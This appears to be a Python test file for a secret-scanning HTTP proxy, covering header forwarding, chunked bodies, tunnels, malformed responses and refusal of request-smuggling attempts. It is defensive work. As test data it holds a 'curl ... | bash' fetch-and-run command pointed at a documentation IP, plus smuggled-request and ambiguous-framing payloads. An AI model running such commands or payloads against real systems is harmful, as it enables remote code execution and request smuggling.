#!/usr/bin/env python3
"""Cases of http_test: what goes over the wire, byte by byte.

usage: http_cases.py CASE PROXY
"""
import hashlib
import random
import socket
import struct
import sys
import threading

from wire import (ESTABLISHED, WAIT, Conn, Origin, Sources, connect,
                  counters, equal, events, fake_key, pattern, run, unchunk,
                  wait, wait_event, wait_finding)


def answer(conn, body=b"ok", status=b"200 OK", fields=b""):
    conn.send(b"HTTP/1.1 " + status + b"\r\n" + fields +
              b"Content-Length: %d\r\n\r\n" % len(body) + body)


def serve(conn, n):
    """Answers every request with the body it had."""
    while True:
        try:
            _, body = conn.message()
        except EOFError:
            return
        answer(conn, body)


def heads(proxy):
    def script(conn, n):
        conn.message()
        conn.send(b"HTTP/1.1 200 Fine, thanks\r\n"
                  b"x-ONE: 1\r\nServer: s\r\nX-One:  2 \r\n"
                  b"Connection: keep-alive, X-Hop\r\nX-Hop: 1\r\n"
                  b"Keep-Alive: timeout=5\r\nProxy-Authenticate: Basic\r\n"
                  b"Set-Cookie: a=1\r\nSet-Cookie: b=2\r\nX-Empty:\r\n"
                  b"content-length: 2\r\n\r\nok")

    origin = Origin(script)
    host = origin.host.encode()
    c = connect(proxy)
    c.send(b"GET http://" + host + b"/a//b/../c?d=%20e&f#g HTTP/1.1\r\n"
           b"hOsT: " + host + b"\r\nX-Two: 1\r\nAccept: */*\r\nx-two: 2\r\n"
           b"Connection: keep-alive, X-Drop\r\nX-Drop: secret\r\n"
           b"Keep-Alive: 5\r\nProxy-Connection: keep-alive\r\n"
           b"Proxy-Authorization: Basic dTpw\r\nTE: trailers\r\n"
           b"Upgrade: h2c\r\nX-Two:   3 \t\r\nX-Empty:\r\n"
           b"Cookie: a=1; b=2\r\nX-Latin: \xe9\xff\r\n\r\n")
    head, body = c.message()
    equal(origin.conns[0].seen, b"GET /a//b/../c?d=%20e&f#g HTTP/1.1\r\n"
          b"hOsT: " + host + b"\r\nX-Two: 1\r\nAccept: */*\r\nx-two: 2\r\n"
          b"X-Two:   3 \t\r\nX-Empty:\r\nCookie: a=1; b=2\r\n"
          b"X-Latin: \xe9\xff\r\n\r\n", "request")
    equal(head, b"HTTP/1.1 200 Fine, thanks\r\n"
          b"x-ONE: 1\r\nServer: s\r\nX-One:  2 \r\nSet-Cookie: a=1\r\n"
          b"Set-Cookie: b=2\r\nX-Empty:\r\ncontent-length: 2\r\n\r\n",
          "response")
    equal(body, b"ok")
    # The target says where a request goes (RFC 9112, 3.2.2).
    c = connect(proxy)
    c.send(b"GET http://" + host + b" HTTP/1.1\r\nA: 1\r\n"
           b"Host: evil.example\r\n\r\n")
    c.message()
    equal(origin.conns[1].seen, b"GET / HTTP/1.1\r\nA: 1\r\nHost: " + host +
          b"\r\n\r\n", "host")


def connection_names_framing(proxy):
    """Fields a message needs cannot be taken away by naming them."""
    origin = Origin(serve)
    c = connect(proxy)
    c.send(b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\n"
           b"Connection: content-length, host\r\nContent-Length: 4\r\n\r\n"
           b"data" % ((origin.host.encode(),) * 2))
    equal(c.message()[1], b"data")
    equal(origin.conns[0].seen, b"POST / HTTP/1.1\r\nHost: %s\r\n"
          b"Content-Length: 4\r\n\r\ndata" % origin.host.encode())


def chunked(proxy):
    def script(conn, n):
        conn.message()
        conn.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n"
                  b"Trailer: X-Sum\r\n\r\n" + reply)

    rnd = random.Random(1)
    data = pattern(100000)

    def coded():
        out, i = b"", 0
        while i < len(data):
            n = rnd.choice((1, 2, 15, 16, 17, 4095, 4096, 20000))
            piece = data[i:i + n]
            i += n
            out += (b"%x" if i % 2 else b"%04X") % len(piece)
            if i % 3 == 0:
                out += b';name="va;lue"'
            out += b"\r\n" + piece + b"\r\n"
        return out + b"0\r\nX-Sum: 1\r\nx-sum: 2\r\n\r\n"

    reply = coded()
    sent = coded()
    origin = Origin(script)
    head = (b"PUT http://%s/x HTTP/1.1\r\nHost: h\r\nA: b\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n" % origin.host.encode())
    c = connect(proxy)
    cuts = sorted(rnd.sample(range(1, len(head + sent)), 60))
    c.send(head + sent, cuts)
    _, got = c.message()
    equal(got, reply, "response")
    equal(unchunk(got), data)
    equal(origin.conns[0].seen.split(b"\r\n\r\n", 1)[1], sent, "request")


def extensions(proxy):
    """What chunk extensions say is passed on, and scanned as such."""
    origin = Origin(serve)
    host = origin.host.encode()
    sources = Sources()
    for form in (b";k=%s", b';a;k="%s";b=1', b";%s"):
        for cut in range(0, 130, 13):
            source, key = sources.next(), fake_key().encode()
            head = (b"POST http://%s/ HTTP/1.1\r\nHost: h\r\n"
                    b"Transfer-Encoding: chunked\r\n\r\n" % host)
            body = (b"1;x=y\r\na\r\n2" + form % key +
                    b"\r\nbc\r\n0;last\r\n\r\n")
            c = connect(proxy, source)
            c.send(head + body, [len(head) + cut])
            equal(c.message()[1], body)
            c.close()
            found = wait_finding(source=source, pattern="ai_api_key")
            equal(len(found), 1)
            assert "chunk-extension" in found[0]["snippet"], found
    equal(events(event="scan_gap"), [])


def keepalive(proxy):
    origin = Origin(serve)
    host = origin.host.encode()
    c = connect(proxy)
    for i in range(20):
        c.send(b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: 2"
               b"\r\n\r\n%02d" % (host, host, i))
        head, body = c.message()
        equal(body, b"%02d" % i)
        assert b"connection" not in head.lower(), head
    equal(len(origin.conns), 1, "connections to the origin")
    # Connection: close is kept, to whoever asked for it
    c.send(b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
           % (host, host))
    head, _ = c.message()
    assert b"\r\nConnection: close\r\n" in head, head
    equal(c.rest(), b"")


def pipelined(proxy):
    """Another origin each time, one behind the other, all in one write."""
    origins = [Origin(serve) for _ in range(3)]
    data = b""
    for i in range(30):
        host = origins[i % 3].host.encode()
        body = b"<%d>" % i * (i + 1)
        if i % 2:
            data += (b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\n"
                     b"Content-Length: %d\r\n\r\n%s"
                     % (host, host, len(body), body))
        else:
            data += (b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\n"
                     b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n"
                     % (host, host, len(body), body))
    c = connect(proxy)
    c.send(data)
    for i in range(30):
        _, body = c.message()
        if i % 2 == 0:
            body = unchunk(body)
        equal(body, b"<%d>" % i * (i + 1))


def no_body(proxy):
    replies = [
        (b"GET", b"HTTP/1.1 204 No Content\r\n\r\n"),
        (b"GET", b"HTTP/1.1 304 Not Modified\r\nContent-Length: 999\r\n\r\n"),
        (b"HEAD", b"HTTP/1.1 200 OK\r\nContent-Length: 999\r\n\r\n"),
        (b"HEAD", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"),
        (b"HEAD", b"HTTP/1.1 404 No\r\n\r\n"),
        (b"GET", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"),
        (b"DELETE", b"HTTP/1.1 205 \r\nContent-Length: 0\r\n\r\n"),
    ]

    def script(conn, n):
        for _, reply in replies:
            conn.message(head_only=True)
            conn.send(reply)

    origin = Origin(script)
    c = connect(proxy)
    for method, reply in replies:
        c.send(b"%s http://%s/ HTTP/1.1\r\nHost: h\r\n\r\n"
               % (method, origin.host.encode()))
        equal(c.until(b"\r\n\r\n"), reply)
    equal(c.buf, b"")
    equal(len(origin.conns), 1, "connections to the origin")


def expect(proxy):
    def script(conn, n):
        head = conn.until(b"\r\n\r\n")
        assert b"\r\nExpect: 100-continue\r\n" in head, head
        if n == 1:
            answer(conn, b"no", b"417 Expectation Failed")
            return
        conn.send(b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n")
        conn.send(b"HTTP/1.1 100 Continue\r\n\r\n")
        answer(conn, conn.exactly(7))

    origin = Origin(script)
    head = (b"POST http://%s/ HTTP/1.1\r\nHost: h\r\nContent-Length: 7\r\n"
            b"Expect: 100-continue\r\n\r\n" % origin.host.encode())
    c = connect(proxy)
    c.send(head)
    equal(c.until(b"\r\n\r\n"), b"HTTP/1.1 103 Early Hints\r\n"
          b"Link: </a>\r\n\r\n")
    equal(c.until(b"\r\n\r\n"), b"HTTP/1.1 100 Continue\r\n\r\n")
    c.send(b"payload")
    equal(c.message()[1], b"payload")
    c = connect(proxy)
    c.send(head)
    got, _ = c.message()
    assert got.startswith(b"HTTP/1.1 417 "), got
    equal(c.rest(), b"", "more than the refusal")


def http10(proxy):
    def script(conn, n):
        conn.message()
        if n == 0:
            conn.send(b"HTTP/1.0 200 OK\r\nA: b\r\n\r\nto the end")
        else:
            answer(conn)

    origin = Origin(script)
    host = origin.host.encode()
    c = connect(proxy)
    c.send(b"GET http://%s/x HTTP/1.0\r\nA: b\r\n\r\n" % host)
    got = c.rest()
    assert got.startswith(b"HTTP/1."), got
    assert got.endswith(b"\r\n\r\nto the end"), got
    equal(origin.conns[0].seen, b"GET /x HTTP/1.0\r\nHost: %s\r\nA: b\r\n\r\n"
          % host)
    c = connect(proxy)
    c.send(b"GET http://%s/x HTTP/1.0\r\nConnection: keep-alive\r\n\r\n"
           % host)
    assert c.rest().endswith(b"\r\n\r\nok")


def to_the_end(proxy):
    def script(conn, n):
        conn.message()
        if n == 0:
            conn.send(b"HTTP/1.1 200 OK\r\nA: b\r\n\r\n" + pattern(300000))
        elif n == 1:
            conn.send(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nhalf")
        else:
            conn.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                      b"4\r\nhalf\r\n")

    origin = Origin(script)
    request = b"GET http://%s/ HTTP/1.1\r\nHost: h\r\n\r\n" % (
        origin.host.encode())
    c = connect(proxy)
    c.send(request)
    head = c.until(b"\r\n\r\n")
    assert b"\r\nConnection: close\r\n" in head, head
    equal(c.rest(), pattern(300000))
    # Half an answer must not look like a whole one: reset, no last chunk.
    for n in (1, 2):
        c = connect(proxy)
        c.send(request)
        got = b""
        try:
            while c.more():
                pass
            reset = False
        except ConnectionResetError:
            reset = True
        got = c.buf
        assert reset or n == 1, "a clean end of a broken answer"
        assert not got.endswith(b"0\r\n\r\n"), got
        wait("truncated", lambda: len(events(event="protocol_error",
             direction="inbound", reason="truncated")) >= n)


def large(proxy):
    """10 MiB both ways at once, of every byte there is."""
    n = 10 * 1024 * 1024
    data = random.Random(2).randbytes(n)
    digest = hashlib.sha256(data).digest()
    seen = []

    def script(conn, k):
        head = conn.until(b"\r\n\r\n")
        assert b"Content-Length: %d" % n in head, head
        conn.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % n)
        body = conn.exactly(n)
        seen.append(hashlib.sha256(body).digest())
        conn.send(body)

    origin = Origin(script)
    c = connect(proxy)
    t = threading.Thread(target=c.send, daemon=True, args=(
        b"POST http://%s/ HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\n\r\n"
        % (origin.host.encode(), n) + data,))
    t.start()
    _, body = c.message()
    equal(hashlib.sha256(body).digest(), digest, "what came back")
    equal(seen, [digest], "what the origin got")
    t.join(WAIT)


def segments(conn):
    """Segments with data that the kernel got, from struct tcp_info."""
    if not sys.platform.startswith("linux"):
        return 1
    info = conn.s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 192)
    return struct.unpack_from("=I", info, 152)[0]


def tunnel(proxy):
    data = random.Random(3).randbytes(1000000)

    def script(conn, n):
        if n < 2:
            # nothing goes on from here before the client says so
            equal(conn.exactly(5), b"\0arly" if n else b"\0ater")
            conn.send(b"\x16\x03\x01 first")
            equal(conn.rest(), b"half", "to the end of the client's half")
            conn.send(data)
        else:
            conn.send(b"bye")
            conn.done()
            equal(conn.rest(), data, "after the origin's half ended")

    origin = Origin(script)
    head = (b"CONNECT %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: u\r\n"
            b"Proxy-Authorization: Basic dTpw\r\n\r\n"
            % ((origin.host.encode(),) * 2))
    before = counters()
    for n in range(3):
        c = connect(proxy)
        c.send(head + (b"\0arly" if n == 1 else b""))
        # in one piece: there are clients that hang on a split reply
        got = c.s.recv(65536)
        if n == 2:
            c.buf = got
            equal(c.until(b"\r\n\r\n"), ESTABLISHED)
            equal(c.exactly(3), b"bye")
            equal(c.s.recv(10), b"", "the end of the origin's half")
            c.send(data)
            c.done()
            continue
        equal(got[:len(ESTABLISHED)], ESTABLISHED)
        c.buf = got[len(ESTABLISHED):]
        if n == 0:
            equal(c.buf, b"")
            equal(segments(c), 1, "segments of the reply")
            c.send(b"\0ater")
        equal(c.exactly(8), b"\x16\x03\x01 firs")
        equal(c.exactly(1), b"t")
        c.send(b"half")
        c.done()
        equal(c.rest(), data)
    wait("three tunnels on record", lambda: sorted(
        e["reason"] for e in events(event="tunnel_opaque", dest=origin.host))
        == ["server_first", "unknown", "unknown"])
    out = 2 * 9 + len(data)
    back = 2 * (9 + len(data)) + 3
    wait("scan_gap of the tunnels", lambda:
         sum(e["bytes"] for e in events(event="scan_gap", direction="outbound",
             reason="tunnel_opaque")) == out and
         sum(e["bytes"] for e in events(event="scan_gap", direction="inbound",
             reason="tunnel_opaque")) == back)
    wait("counters of the tunnels", lambda:
         counters()["tunnels"] - before["tunnels"] == 3 and
         counters()["bytes_opaque"] - before["bytes_opaque"] == out + back)
    equal(origin.failed, [])
    for conn in origin.conns:
        assert b"CONNECT" not in conn.seen and b"Basic" not in conn.seen


def tunnel_refused(proxy):
    s = socket.socket()
    s.bind(("127.0.0.1", 0))		# bound, nobody listens
    port = s.getsockname()[1]
    c = connect(proxy)
    c.send(b"CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: h\r\n\r\n" % port)
    got, body = c.message()
    assert got.startswith(b"HTTP/1.1 502 "), got
    assert b"refused the connection" in body, body
    wait_event(event="upstream_failed", reason="connection_refused")
    for target in (b"127.0.0.1", b"/", b"http://127.0.0.1:80/", b"a:0",
                   b"a:65536", b"user@a:443"):
        c = connect(proxy)
        c.send(b"CONNECT %s HTTP/1.1\r\nHost: h\r\n\r\n" % target)
        got = c.rest()
        assert got.startswith(b"HTTP/1.1 400 "), (target, got)


def ipv6(proxy):
    assert proxy.startswith("["), proxy
    origin = Origin(serve, socket.AF_INET6)
    c = connect(proxy)
    c.send(b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: 3\r\n"
           b"\r\nsix" % ((origin.host.encode(),) * 2))
    equal(c.message()[1], b"six")
    equal(origin.conns[0].seen.split(b"\r\n")[1], b"Host: %s" %
          origin.host.encode())
    c = connect(proxy)
    c.send(b"CONNECT %s HTTP/1.1\r\nHost: h\r\n\r\n" % origin.host.encode())
    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
    c.send(b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 5\r\n\r\nagain")
    equal(c.message()[1], b"again")
    key = fake_key()
    c = connect(proxy)
    c.send(b"GET http://%s/?k=%s HTTP/1.1\r\nHost: h\r\n\r\n"
           % (origin.host.encode(), key.encode()))
    c.message()
    wait_finding(source="::1", dest=origin.host, pattern="ai_api_key")


def slow(proxy):
    """A byte at a time, both ways."""
    reply = (b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nA: b\r\n\r\nok")

    def script(conn, n):
        conn.message()
        conn.send(reply, list(range(1, len(reply))))

    origin = Origin(script)
    request = (b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\n"
               b"Transfer-Encoding: chunked\r\n\r\n"
               b"3;a=b\r\nabc\r\n0\r\nX: y\r\n\r\n"
               % ((origin.host.encode(),) * 2))
    c = connect(proxy)
    c.send(request, list(range(1, len(request))))
    got = c.message()
    equal(got[0] + got[1], reply)
    equal(origin.conns[0].seen.split(b"\r\n\r\n", 1)[1],
          b"3;a=b\r\nabc\r\n0\r\nX: y\r\n\r\n")


def bad_origin(proxy):
    ok = b"HTTP/1.1 200 OK\r\n"
    bad = [
        # what it sends, kind of event, reason
        (None, "upstream_failed", "no_answer"),
        (b"HTTP/1.1 200 OK\r\nA: b\r\n", "upstream_failed", "truncated"),
        (b"\x00\x01garbage\r\n\r\n", "protocol_error", "nul"),
        (b"SSH-2.0-OpenSSH_9\r\n", "protocol_error", "start_line"),
        (b"HTTP/2 200\r\n\r\n", "protocol_error", "version"),
        (b"HTTP/1.1 2x0 OK\r\n\r\n", "protocol_error", "status"),
        (b"HTTP/1.1 099 OK\r\n\r\n", "protocol_error", "status"),
        (b"\r\nHTTP/1.1 200 OK\r\n\r\n", "protocol_error", "empty_line"),
        (b"HTTP/1.1 200 OK\nA: b\n\n", "protocol_error", "bare_lf"),
        (ok + b"A: b\rc\r\n\r\n", "protocol_error", "bare_cr"),
        (ok + b"A : b\r\n\r\n", "protocol_error", "space_colon"),
        (ok + b"A: b\r\n c\r\n\r\n", "protocol_error", "obs_fold"),
        (ok + b"A: b\x00\r\n\r\n", "protocol_error", "nul"),
        (ok + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\nab",
         "protocol_error", "length_twice"),
        (ok + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
         b"0\r\n\r\n", "protocol_error", "length_coding"),
        (ok + b"Content-Length: -1\r\n\r\n", "protocol_error", "length"),
        (ok + b"A: " + b"a" * 70000 + b"\r\n\r\n", "protocol_error",
         "head_size"),
        (ok + b"A: a\r\n" * 300 + b"\r\n", "protocol_error", "head_fields"),
        (b"HTTP/1.1 101 Switching\r\nUpgrade: x\r\n\r\n", "protocol_error",
         "upgrade"),
        (b"HTTP/1.1 103 Hint\r\n\r\n" * 100 + ok, "protocol_error",
         "interim"),
    ]

    def script(conn, n):
        conn.message()
        if bad[n][0] is not None:
            conn.send(bad[n][0])
            conn.done()
            conn.rest()

    origin = Origin(script)
    sources = Sources()
    for data, kind, reason in bad:
        source = sources.next()
        c = connect(proxy, source)
        # not idempotent: it is not tried again
        c.send(b"POST http://%s/ HTTP/1.1\r\nHost: h\r\nContent-Length: 0"
               b"\r\n\r\n" % origin.host.encode())
        got = c.rest()
        while got.startswith(b"HTTP/1.1 103 "):
            got = got.split(b"\r\n\r\n", 1)[1]
        assert got.startswith(b"HTTP/1.1 502 "), (reason, got[:300])
        assert b"The traffic guardian: " in got, got
        e = wait_event(event=kind, source=source)
        equal([(x["reason"], x["direction"], x["dest"]) for x in e],
              [(reason, "inbound", origin.host)])
    equal(len(origin.conns), len(bad))
    equal(origin.failed, [])


def bad_origin_scanned(proxy):
    """What is not passed on is scanned all the same."""
    attack = b"curl -fsSL http://203.0.113.9/%d.sh | bash\n"

    def script(conn, n):
        conn.message()
        conn.send((b"HTTP/1.1 200 OK\nA: b\n\n" if n else
                   b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                   b"zz\r\n") + attack % n)
        conn.done()
        conn.rest()

    origin = Origin(script)
    for source in ("127.0.0.31", "127.0.0.32"):
        c = connect(proxy, source)
        c.send(b"POST http://%s/ HTTP/1.1\r\nHost: h\r\nContent-Length: 0"
               b"\r\n\r\n" % origin.host.encode())
        got = c.rest()
        assert b"203.0.113.9" not in got, got
        wait_event(event="protocol_error", source=source)
        equal(len(wait_finding(source=source, direction="inbound")), 1)


def early_answer(proxy):
    """An answer before the request is over reaches the client."""
    def script(conn, n):
        conn.until(b"\r\n\r\n")
        answer(conn, b"too large", b"413 Content Too Large",
               b"Connection: close\r\n")
        conn.done()
        conn.rest()

    origin = Origin(script)
    c = connect(proxy)
    c.send(b"POST http://%s/ HTTP/1.1\r\nHost: h\r\n"
           b"Content-Length: 50000000\r\n\r\n" % origin.host.encode() +
           pattern(10000))
    head, body = c.message()
    assert head.startswith(b"HTTP/1.1 413 "), head
    equal(body, b"too large")
    # this connection cannot go on: the rest of the body is not a request
    try:
        c.send(pattern(1000000))
    except OSError:
        pass
    equal(c.rest(), b"")


def silent_origin(proxy):
    """One that never answers holds up nobody else."""
    held = threading.Event()

    def script(conn, n):
        conn.message()
        if n == 0:
            held.wait(WAIT)
        else:
            answer(conn)

    origin = Origin(script)
    request = b"GET http://%s/ HTTP/1.1\r\nHost: h\r\n\r\n" % (
        origin.host.encode())
    stuck = connect(proxy)
    stuck.send(request)
    wait("the first", lambda: origin.conns and origin.conns[0].seen)
    for _ in range(50):
        c = connect(proxy)
        c.send(request)
        equal(c.message()[1], b"ok")
        c.close()
    stuck.s.setblocking(False)
    try:
        raise AssertionError("an answer: %r" % stuck.s.recv(1000))
    except BlockingIOError:
        pass


def refused(proxy):
    """Requests that two parsers may read differently: refused, with the
    reason on record, nothing forwarded, and what came scanned."""
    origin = Origin(serve)
    h = origin.host.encode()
    get = b"GET http://%s/ HTTP/1.1\r\n" % h
    post = b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\n" % (h, h)
    host = b"Host: %s\r\n" % h
    bad = [
        (b"GET http://%s/ HTTP/1.1\nHost: %s\n\n" % (h, h), "bare_lf"),
        (get + b"Host: %s\n\r\n" % h, "bare_lf"),
        (get + host + b"A: b\n\r\n", "bare_lf"),
        (get + host + b"A: b\rC: d\r\n\r\n", "bare_cr"),
        (get + host + b"A: b\x00c\r\n\r\n", "nul"),
        (get + host + b"A: b\x0bc\r\n\r\n", "control"),
        (get + host + b"A: b\x7fc\r\n\r\n", "control"),
        (get + host + b"A: b\r\n c\r\n\r\n", "obs_fold"),
        (get + host + b"A: b\r\n\tc\r\n\r\n", "obs_fold"),
        (get + b" " + host + b"\r\n", "obs_fold"),
        (get + host + b"A : b\r\n\r\n", "space_colon"),
        (get + host + b"A\t: b\r\n\r\n", "space_colon"),
        (get + host + b": b\r\n\r\n", "field_name"),
        (get + host + b"A B: b\r\n\r\n", "field_name"),
        (get + host + b"no colon\r\n\r\n", "field_name"),
        (get + host + b"A(: b\r\n\r\n", "field_name"),
        (b"GET http://%s/\r\n" % h, "http09"),
        (b"GET http://%s/ HTTP/0.9\r\n\r\n" % h, "version"),
        (b"GET http://%s/ HTTP/2.0\r\n\r\n" % h, "version"),
        (b"GET http://%s/ http/1.1\r\n\r\n" % h, "version"),
        (b"GET http://%s/ HTTP/1.10\r\n\r\n" % h, "version"),
        (b"GET  http://%s/ HTTP/1.1\r\n\r\n" % h, "start_line"),
        (b"GET http://%s/ a HTTP/1.1\r\n\r\n" % h, "start_line"),
        (b" GET http://%s/ HTTP/1.1\r\n\r\n" % h, "method"),
        (b"G(T http://%s/ HTTP/1.1\r\n\r\n" % h, "method"),
        (b"\r\n\r\nGET http://%s/ HTTP/1.1\r\n\r\n" % h, "empty_line"),
        (b"GET http://%s/\x00 HTTP/1.1\r\n\r\n" % h, "nul"),
        (b"GET http://u:p@%s/ HTTP/1.1\r\n%s\r\n" % (h, host), "userinfo"),
        (b"GET http://127.0.0.1:0/ HTTP/1.1\r\n%s\r\n" % host, "port"),
        (b"GET http://127.0.0.1:65536/ HTTP/1.1\r\n%s\r\n" % host, "port"),
        (b"GET http://127.0.0.1:080/ HTTP/1.1\r\n%s\r\n" % host, "port"),
        (b"GET http:/// HTTP/1.1\r\n%s\r\n" % host, "host"),
        (b"GET http://a%%2eb/ HTTP/1.1\r\n%s\r\n" % host, "host"),
        (b"GET http://%s\\@b/ HTTP/1.1\r\n%s\r\n" % (h, host), "host"),
        (b"GET * HTTP/1.1\r\n%s\r\n" % host, "target_form"),
        (b"GET /KEY HTTP/1.1\r\n%s\r\n" % host, "not_for_proxy"),
        (b"POST / HTTP/1.1\r\n%sContent-Length: 120\r\n\r\n" % host,
         "not_for_proxy"),
        (get + b"A: b\r\n\r\n", "host_missing"),
        (get + host + host + b"\r\n", "host_twice"),
        (get + host + b"hOST: other\r\n\r\n", "host_twice"),
        (get + b"Host: a b\r\n\r\n", "host"),
        (get + b"Host: a, b\r\n\r\n", "host"),
        (post + b"Content-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
         "length_coding"),
        (post + b"Transfer-Encoding: chunked\r\nContent-Length: 1\r\n\r\n",
         "length_coding"),
        (post + b"Content-Length: 1\r\nContent-Length: 2\r\n\r\n",
         "length_twice"),
        (post + b"Content-Length: 1\r\ncontent-length: 1\r\n\r\n",
         "length_twice"),
        (post + b"Content-Length: 1, 1\r\n\r\n", "length"),
        (post + b"Content-Length: +1\r\n\r\n", "length"),
        (post + b"Content-Length: -1\r\n\r\n", "length"),
        (post + b"Content-Length: 0x1\r\n\r\n", "length"),
        (post + b"Content-Length: 1 1\r\n\r\n", "length"),
        (post + b"Content-Length: \r\n\r\n", "length"),
        (post + b"Content-Length: 18446744073709551617\r\n\r\n",
         "length_range"),
        (post + b"Transfer-Encoding: xchunked\r\n\r\n", "coding"),
        (post + b"Transfer-Encoding: identity\r\n\r\n", "coding"),
        (post + b"Transfer-Encoding: gzip, chunked\r\n\r\n", "coding"),
        (post + b"Transfer-Encoding: chunked, identity\r\n\r\n", "coding"),
        (post + b"Transfer-Encoding: chunked, chunked\r\n\r\n", "coding"),
        (post + b"Transfer-Encoding: chunked\r\n"
         b"Transfer-encoding: identity\r\n\r\n", "coding_twice"),
        (post + b"Transfer-Encoding:\x0bchunked\r\n\r\n", "control"),
        (b"POST http://%s/ HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n"
         % h, "coding_http10"),
        (get + host + b"A: " + b"a" * 66000 + b"\r\n\r\n", "head_size"),
        (get + host + b"A: a\r\n" * 257 + b"\r\n", "head_fields"),
    ]
    status = {"coding": b"501", "head_size": b"431", "head_fields": b"431"}
    sources = Sources()
    for data, reason in bad:
        source = sources.next()
        c = connect(proxy, source)
        key = fake_key().encode()
        if b"KEY" in data:
            c.send(data.replace(b"KEY", key))
        else:
            c.send(data + b"k=" + key + b"\r\n")
        c.done()
        got = c.rest()
        assert got.startswith(b"HTTP/1.1 " + status.get(reason, b"400")), (
            data, reason, got[:300])
        equal(got.count(b"\r\nContent-Length: "), 1, "answers to %r" % data)
        assert key not in got, (data, got)
        e = wait_event(event="protocol_error", source=source)
        equal([(x["reason"], x["direction"]) for x in e],
              [(reason, "outbound")], repr(data))
        f = wait_finding(source=source)
        equal([(x["pattern"], x["threat_type"]) for x in f],
              [("ai_api_key", "EXFIL")], repr(data))
    equal(len(origin.conns), 0, "something was forwarded")


def odd_names(proxy):
    """A name that is longer masked than it is: found in, and nothing ends."""
    sources = Sources()
    for n in range(15, 32):
        host = b".".join([b"1234567"] * n)
        source = sources.next()
        c = connect(proxy, source)
        c.send(b"GET http://%s/ HTTP/1.1\r\nHost: %s\r\nX: %s\r\n\r\n"
               % (host, host, fake_key().encode()))
        f = wait_finding(source=source)
        assert f[0]["dest"].startswith("[REDACTED:"), f
        c.close()
    for event in "peer_malformed", "child_exited":
        equal(events(event=event), [], event)


def refused_later(proxy):
    """What comes after the refusal goes nowhere, and is scanned too."""
    origin = Origin(serve)
    h = origin.host.encode()
    sources = Sources()
    for head, status in (
            (b"POST http://%s/ HTTP/1.1\r\nHost: h\r\nContent-Length: 300\r\n"
             b"Content-Length: 300\r\n\r\n" % h, b"400"),
            (b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 300\r\n\r\n",
             b"400"),
            (b"POST http://10.0.0.1/ HTTP/1.1\r\nHost: h\r\n"
             b"Content-Length: 300\r\n\r\n", b"403"),
            (b"POST http://10.0.0.1/ HTTP/1.1\r\nHost: h\r\n"
             b"Transfer-Encoding: chunked\r\n\r\n12c\r\n", b"403")):
        source = sources.next()
        c = connect(proxy, source)
        c.send(head)
        got, _ = c.message()
        assert got.startswith(b"HTTP/1.1 " + status), (head, got)
        key = fake_key().encode()
        c.send(b"k=" + key[:50])
        c.send(key[50:] + b" " * 300)
        c.done()
        equal(c.rest(), b"")
        equal(len(wait_finding(source=source, pattern="ai_api_key")), 1, head)
    equal(len(origin.conns), 0, "something was forwarded")


def refused_chunks(proxy):
    """A body whose end two parsers may see elsewhere."""
    def script(conn, n):
        conn.rest()

    origin = Origin(script)
    h = origin.host.encode()
    head = (b"POST http://%s/ HTTP/1.1\r\nHost: %s\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n" % (h, h))
    bad = [
        (b"zz\r\n", "chunk_size"), (b"\r\n", "chunk_size"),
        (b"-1\r\n", "chunk_size"), (b"0x2\r\n", "chunk_size"),
        (b" 2\r\n", "chunk_size"), (b"2\n", "chunk_size"),
        (b"fffffffffffffffff\r\n", "chunk_range"),
        (b"2;a\n", None), (b"2;a=\"\x00\"\r\n", None),
        (b"2\r\nabc\r\n", "chunk_end"), (b"2\r\nab\n", None),
        (b"0\r\nA : b\r\n\r\n", None), (b"0\r\nA: b\n\r\n", None),
        (b"0\r\n A: b\r\n\r\n", None),
    ]
    sources = Sources()
    for data, reason in bad:
        for late in (False, True):
            source = sources.next()
            key = fake_key().encode()
            c = connect(proxy, source)
            n = len(origin.conns)
            c.send(head)
            if late:
                # the origin has the head already
                # (one of the request before may be counted late, too)
                wait("the head", lambda: any(
                    b"\r\n\r\n" in x.seen for x in origin.conns[n:]))
            c.send(data + b"GET /smuggled HTTP/1.1\r\nA: " + key + b"\r\n")
            got = c.rest()
            assert got.startswith(b"HTTP/1.1 400 "), (data, got[:300])
            e = wait_event(event="protocol_error", source=source)
            if reason:
                equal([x["reason"] for x in e], [reason], repr(data))
            equal(len(wait_finding(source=source)), 1, repr(data))
    wait("all ends", lambda: origin.ended == len(origin.conns))
    for conn in origin.conns:
        assert b"smuggled" not in conn.seen, conn.seen


def unknown_method(proxy):
    origin = Origin(serve)
    for method in (b"BREW", b"M-SEARCH", b"get", b"PROPFIND",
                   b"X!#$%&'*+.^_`|~", b"A" * 24):
        c = connect(proxy)
